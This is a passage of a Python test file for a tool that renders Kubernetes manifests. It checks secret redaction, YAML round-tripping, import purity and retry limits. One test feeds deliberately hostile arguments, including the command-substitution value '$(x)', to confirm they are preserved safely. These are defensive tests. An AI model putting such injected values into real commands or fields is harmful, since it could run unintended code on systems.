    assert kinds == ["Namespace", "Deployment", "Service"]


# --- Secrets and plan output ------------------------------------------------------------------------
PEM = "-----BEGIN KEY-----\nCANARY-LINE-1\nCANARY-LINE-2\n-----END KEY-----\n"


def test_render_secret_holds_values_as_string_data_labelled_with_the_group() -> None:
    secret = render.render_secret("aws-credentials", {"KEY": PEM}, namespace="ml", group="prod")
    assert secret["stringData"] == {"KEY": PEM}
    assert secret["type"] == "Opaque"
    assert secret["metadata"]["namespace"] == "ml"
    assert secret["metadata"]["labels"] == {
        render.LABEL_MANAGED_BY: "bodywork-action",
        render.LABEL_SECRET_GROUP: "prod",
    }


def test_redacted_secret_keeps_the_keys_and_hides_every_value() -> None:
    secret = render.render_secret("s", {"A": "CANARY-a", "B": "CANARY-b"}, namespace="ml", group="")
    redacted = render.redact_secret({**secret, "data": {"C": "Q0FOQVJZ"}})
    assert redacted["stringData"] == {"A": "<redacted>", "B": "<redacted>"}
    assert redacted["data"] == {"C": "<redacted>"}
    assert "CANARY" not in json.dumps(redacted) and "Q0FOQVJZ" not in json.dumps(redacted)
    assert secret["stringData"]["A"] == "CANARY-a"  # the original is left alone


def test_plan_yaml_shows_every_object_and_secret_keys_but_never_secret_values() -> None:
    objects = [
        *render_plan(PIPELINE, CONTEXT).objects(),
        render.render_secret("db", {"DB_PASSWORD": PEM}, namespace="ml", group="prod"),
    ]
    text = render.format_manifests_yaml(objects)
    assert "CANARY" not in text
    documents = list(yaml.safe_load_all(text))
    assert [d["kind"] for d in documents] == [
        "Namespace",
        "Job",
        "Deployment",
        "Service",
        "Ingress",
        "Secret",
    ]
    assert documents[-1]["stringData"] == {"DB_PASSWORD": "<redacted>"}
    assert documents[:-1] == objects[:-1]  # everything else round-trips exactly


def test_plan_yaml_keeps_the_bootstrap_program_and_hostile_args_intact() -> None:
    stage = build_stage("s", TRAIN.settings, args=("$(x)", "a: b", "- c", "#d"))
    objects = render_plan(
        builders.pipeline("s", stage, name="p", docker_image=BODYWORK_IMAGE), CONTEXT
    ).objects()
    assert list(yaml.safe_load_all(render.format_manifests_yaml(objects))) == objects


# --- purity -----------------------------------------------------------------------------------------
def test_render_module_imports_nothing_that_does_io() -> None:
    program = (
        "import sys, bodywork_action.render\n"
        "bad = {'kubernetes', 'requests', 'subprocess', 'socket', 'yaml'} & set(sys.modules)\n"
        "print(sorted(bad))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", program],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).resolve().parents[1],
    )
    assert done.stdout.strip() == "[]"


def test_the_wait_limit_is_exact_and_instant_for_any_number_of_retries() -> None:
    for retries in range(12):
        backoff = sum(min(10 << r, 360) for r in range(retries))
        limit = render.job_wait_limit_seconds(BatchSettings(max_completion_time_seconds=1, retries=retries))
        assert limit == (retries + 1) * (1 + render.JOB_ATTEMPT_STARTUP_ALLOWANCE_SECONDS) + backoff
    huge = render.job_wait_limit_seconds(BatchSettings(max_completion_time_seconds=1, retries=10**9))
    assert huge is not None and huge > 360 * 10**9  # a hostile retries value costs nothing to render
